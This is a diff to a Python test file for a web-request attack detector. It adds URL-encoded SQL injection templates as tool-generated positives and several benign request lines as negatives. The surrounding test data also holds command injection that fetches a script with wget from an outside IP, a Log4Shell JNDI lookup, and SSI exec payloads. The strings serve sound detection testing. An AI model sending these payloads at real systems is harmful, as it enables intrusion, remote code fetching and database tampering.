@@ -365,6 +365,15 @@ def web(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x
     ("GET /shell?c=$(wget%20http://198.51.100.9/x.sh) HTTP/1.1", "lw-web-command-injection"),
     ("GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1", "lw-web-log4shell"),
     ("GET /cart.jsp?id=2&nombre=%27+DELETE+FROM+USERS&precio=39 HTTP/1.1", "lw-web-sqli"),  # stacked DELETE, no SELECT
+    # boolean-, error- and time-based templates as injection tools send them
+    ("GET /item.php?id=1%27%29%29+and+elt%284249%3D4249%2C7259%29+and+%28%28%27oucg%27%3D%27oucg HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=1%22%29+as+kbjt+where+2012%3D2012+and+%285978%3D6898%29%2A6898-- HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=1%29%29%29%3Biif%285257%3D5257%2C1%2C1%2F0%29 HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=%28select+%2A+from+generate_series%284990%2C4990%2Ccase+when+%284990%3D5065%29+then+1+else+0+end%29+limit+1%29 HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=1+or+char%2868%29%7C%7Cchar%2869%29%3Dregexp_substring%28repeat%28right%28char%285389%29%2C0%29%2C5000000000%29%2Cnull%29 HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=-7404%27+where+1536%3D1536+order+by+1%23 HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=1%22%29%29%29+and+exp%28~%28select+%2A+from+%28select+concat%280x7171706a71%2C1%29%29x%29%29 HTTP/1.1", "lw-web-sqli"),
+    ("GET /item.php?id=1%27+in+boolean+mode%29+and+make_set%288403%3D8403%2C8899%29%23 HTTP/1.1", "lw-web-sqli"),
     ("GET /form.jsp?login=%3C%21--%23EXEC+cmd%3D%22ls+%2F%22--%3E HTTP/1.1", "lw-web-ssi-injection"),
     ("GET /item.jsp?precio=39%3C%21--%23include+file%3D%22secret%22+--%3E HTTP/1.1", "lw-web-ssi-injection"),
     ("GET /login.jsp?B1=any%0D%0ASet-cookie%3A+Tamper%3D1041264011025374727 HTTP/1.1", "lw-web-header-injection"),
@@ -394,6 +403,11 @@ def test_shellshock_in_user_agent(detector):
     "GET /search?q=how+to+insert+a+table+into+a+document HTTP/1.1",
     "GET /comments?text=%3C%21--+a+plain+HTML+comment+--%3E HTTP/1.1",
     "GET /~alice/index.html HTTP/1.1",
+    "GET /catalog/item.php?value=c%2F%20caridad%20s%2Fn HTTP/1.1",
+    "GET /search?q=2+and+3+are+prime&order=asc HTTP/1.1",  # words and numbers, no comparison
+    "GET /shop?size=10&color=red;sessionid=77 HTTP/1.1",
+    "GET /help/how-to-order-by-date HTTP/1.1",
+    "GET /docs/sql?topic=select-statements HTTP/1.1",
 ])
 def test_benign_requests_make_no_signal(detector, request_line):
     assert detector.scan([web(request_line)]) == []
